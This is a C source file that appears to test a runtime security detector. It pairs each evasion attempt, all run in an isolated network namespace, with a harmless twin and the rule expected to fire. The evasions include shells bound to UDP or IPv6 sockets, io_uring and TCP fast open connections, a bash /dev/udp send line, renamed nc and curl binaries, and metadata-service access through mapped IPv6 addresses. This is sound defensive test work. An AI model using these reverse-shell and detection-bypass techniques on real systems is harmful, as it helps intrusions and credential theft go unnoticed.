/* SPDX-License-Identifier: Apache-2.0
 *
 * Connections of another kind than the usual, in a network namespace of the attempt's own that reaches nothing.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include "evasions.h"

#define SHELL_RULE "Network connection became standard input or output"
#define OUT_RULE "Program from an unusual place connected out"
#define BASH_RULE "Shell opened a network connection"
#define UDP_RULE "Data sent by UDP from a tool"
#define METADATA_RULE "Metadata service asked for credentials"
#define PRIVATE4 "127.0.0.1"

/* ---- a shell whose input and output are a connection ---- */
static void become_shell(int fd)
{
	pid_t pid = act_fork();
	if (pid == 0) {
		for (int i = 0; i < 3; i++)
			dup2(fd, i);
		execl("/bin/sh", "sh", "-c", ":", (char *)NULL);
		_exit(127);
	}
	act_wait(pid);
}

static void udp_shell_attempt(void)
{
	act_private_network();
	become_shell(act_connect(AF_INET, SOCK_DGRAM, NET4, NET_PORT));
}

static void ipv6_shell_attempt(void)
{
	act_private_network();
	become_shell(act_connect(AF_INET6, SOCK_STREAM, NET6, NET_PORT));
}

static void shell_twin(void)
{
	int pair[2];
	MUST(socketpair(AF_UNIX, SOCK_STREAM, 0, pair));
	become_shell(pair[0]);
}

/* The standard descriptors are closed first, so that the connection becomes 0 without being copied there. */
static void become_undupped_shell(bool connected)
{
	act_private_network();
	int listener = (int)MUST(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(NET_PORT)};
	inet_pton(AF_INET, NET4, &to.sin_addr);
	MUST(bind(listener, (struct sockaddr *)&to, sizeof(to)));
	MUST(listen(listener, 1));
	if (connected)
		close(STDIN_FILENO);
	int fd = (int)MUST(socket(AF_INET, SOCK_STREAM, 0));
	MUST(connect(fd, (struct sockaddr *)&to, sizeof(to)));
	act_run("/bin/sh", "sh", "-c", ":", NULL);
}

static void undupped_attempt(void)
{
	become_undupped_shell(true);
}

static void undupped_twin(void)
{
	become_undupped_shell(false);
}

/* ---- a program in /tmp that calls home ---- */
static void run_tool(const char *evasion, const char *address)
{
	act_private_network();
	act_copy("/proc/self/exe", "tool", 0755);
	act_run("./tool", "tool", "--act", evasion, "again", address, NULL);
}

static void fill(struct sockaddr_in *to)
{
	*to = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(NET_PORT)};
	inet_pton(AF_INET, act_argument(), &to->sin_addr);
}

static void uring_attempt(void)
{
	run_tool("io-uring-connect", NET4);
}

static void uring_twin(void)
{
	run_tool("io-uring-connect", PRIVATE4);
}

static void uring_called(void)
{
	struct sockaddr_in to;
	fill(&to);
	uring_connect((int)MUST(socket(AF_INET, SOCK_DGRAM, 0)), &to, sizeof(to));
}

static void fastopen_attempt(void)
{
	run_tool("fast-open", NET4);
}

static void fastopen_twin(void)
{
	run_tool("fast-open", PRIVATE4);
}

static void fastopen_called(void)
{
	struct sockaddr_in to;
	fill(&to);
	int listener = (int)MUST(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
	MUST(bind(listener, (struct sockaddr *)&to, sizeof(to)));
	MUST(listen(listener, 1));
	int fd = (int)MUST(socket(AF_INET, SOCK_STREAM, 0));
	MUST(sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&to, sizeof(to)));
}

/* ---- data that leaves ---- */
static void udp_by_bash(const char *line)
{
	if (access("/bin/bash", X_OK) < 0)
		act_skip("no bash");
	act_private_network();
	act_run("/bin/bash", "bash", "-c", line, NULL);
}

static void bash_attempt(void)
{
	udp_by_bash("echo x >/dev/udp/" NET6 "/4444");
}

static void bash_twin(void)
{
	udp_by_bash("echo x >/dev/udp/::1/4444");
}

static void send_as_netcat(const char *address)
{
	act_private_network();
	act_copy("/proc/self/exe", "nc", 0755);
	act_run("./nc", "nc", "--act", "udp6", "again", address, NULL);
}

static void udp6_attempt(void)
{
	send_as_netcat(NET6);
}

static void udp6_twin(void)
{
	send_as_netcat("::1");
}

static void udp6_called(void)
{
	struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(NET_PORT)};
	inet_pton(AF_INET6, act_argument(), &to.sin6_addr);
	int fd = (int)MUST(socket(AF_INET6, SOCK_DGRAM, 0));
	MUST(sendto(fd, "x", 1, 0, (struct sockaddr *)&to, sizeof(to)));
}

static void fetch_as_curl(const char *address)
{
	act_private_network();
	act_copy("/proc/self/exe", "curl", 0755);
	act_run("./curl", "curl", "--act", "mapped-address", "again", address, NULL);
}

static void mapped_attempt(void)
{
	fetch_as_curl("::ffff:" METADATA4);
}

static void mapped_twin(void)
{
	fetch_as_curl("::ffff:" NET4);
}

static void mapped_called(void)
{
	act_connect(AF_INET6, SOCK_STREAM, act_argument(), 80);
}

const struct evasion network_evasions[] = {
        {"udp-shell",
         "a shell whose input and output are a UDP socket",
         SHELL_RULE,
         {{"evt.type", "^dup"}, {"fd.l4proto", "udp"}},
         udp_shell_attempt,
         shell_twin,
         NULL},
        {"ipv6-shell",
         "a shell whose input and output are an IPv6 connection",
         SHELL_RULE,
         {{"evt.type", "^dup"}, {"fd.name", "~" NET6}},
         ipv6_shell_attempt,
         shell_twin,
         NULL},
        {"undupped-shell",
         "a connection that is standard input from the start, without dup",
         SHELL_RULE,
         {{"evt.type", "connect"}},
         undupped_attempt,
         undupped_twin,
         NULL},
        {"io-uring-connect",
         "a program in /tmp that connects by the kernel's asynchronous ring",
         OUT_RULE,
         {{"evt.type", "connect"}, {"evt.addr", "~" NET4}},
         uring_attempt,
         uring_twin,
         uring_called},
        {"fast-open",
         "a program in /tmp that connects by its first message (TCP fast open)",
         OUT_RULE,
         {{"evt.type", "sendto"}, {"evt.addr", "~" NET4}},
         fastopen_attempt,
         fastopen_twin,
         fastopen_called},
        {"udp-by-bash",
         "a shell that sends by UDP over IPv6 itself",
         BASH_RULE,
         {{"fd.l4proto", "udp"}, {"evt.addr", "~" NET6}},
         bash_attempt,
         bash_twin,
         NULL},
        {"udp6",
         "UDP over IPv6 to the Internet, without a connection",
         UDP_RULE,
         {{"evt.type", "sendto"}, {"evt.addr", "~" NET6}},
         udp6_attempt,
         udp6_twin,
         udp6_called},
        {"mapped-address",
         "the metadata service by its IPv4 address in IPv6's clothes",
         METADATA_RULE,
         {{"evt.addr", "~" METADATA4}},
         mapped_attempt,
         mapped_twin,
         mapped_called},
        EVASIONS_END,
};
